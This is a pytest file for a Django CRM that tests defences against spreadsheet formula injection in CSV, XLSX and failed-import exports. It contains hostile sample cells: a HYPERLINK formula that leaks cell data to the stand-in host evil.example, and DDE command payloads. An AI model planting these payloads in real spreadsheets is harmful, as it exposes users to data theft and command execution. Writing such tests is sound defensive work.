"""Spreadsheet formula injection (audit M2): contact names come from WhatsApp profiles and
imported files, so a cell that a spreadsheet would run as a formula is neutralised in the CSV
export, written as text in the XLSX export, and neutralised in the failed-rows file."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.db import connection
from openpyxl import load_workbook

from crm.exporting import spreadsheet_text
from crm.tests.factories import ContactFactory

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&B3&C3,"Clique aqui")'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (PAYLOAD, "'" + PAYLOAD),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝HYPERLINK(1)", "'＝HYPERLINK(1)"),
        ("+5511987654321", "+5511987654321"),  # a phone stays a phone
        ("-10", "-10"),
        ("Maria = Silva", "Maria = Silva"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(value, safe):
    assert spreadsheet_text(value) == safe


def test_csv_export_neutralises_formulas(owner_client, acme):
    connection.set_tenant(acme)
    ContactFactory(name=PAYLOAD, phone="+5511911112222")
    connection.set_schema_to_public()
    text = b"".join(owner_client.get("/contacts/export.csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][:2] == ["'" + PAYLOAD, "+5511911112222"]


def test_xlsx_export_writes_text_never_formulas(owner_client, acme):
    connection.set_tenant(acme)
    ContactFactory(name=PAYLOAD, phone="+5511911113333")
    connection.set_schema_to_public()
    data = b"".join(owner_client.get("/contacts/export.xlsx").streaming_content)
    sheet_xml = b"".join(
        zipfile.ZipFile(io.BytesIO(data)).read(n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist()
    )
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.data_type == "s" and cell.value == PAYLOAD


def test_failed_rows_file_neutralises_formulas(tenant, tmp_path):
    from crm.tests.test_import import _import

    content = "Nome;Telefone\r\n" + PAYLOAD.replace('"', '""').join(['"', '"']) + ";12345\r\n"
    result = _import(tmp_path, content)
    assert result.failed_count == 1
    text = result.failed_file.open("rb").read().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][1] == "'" + PAYLOAD
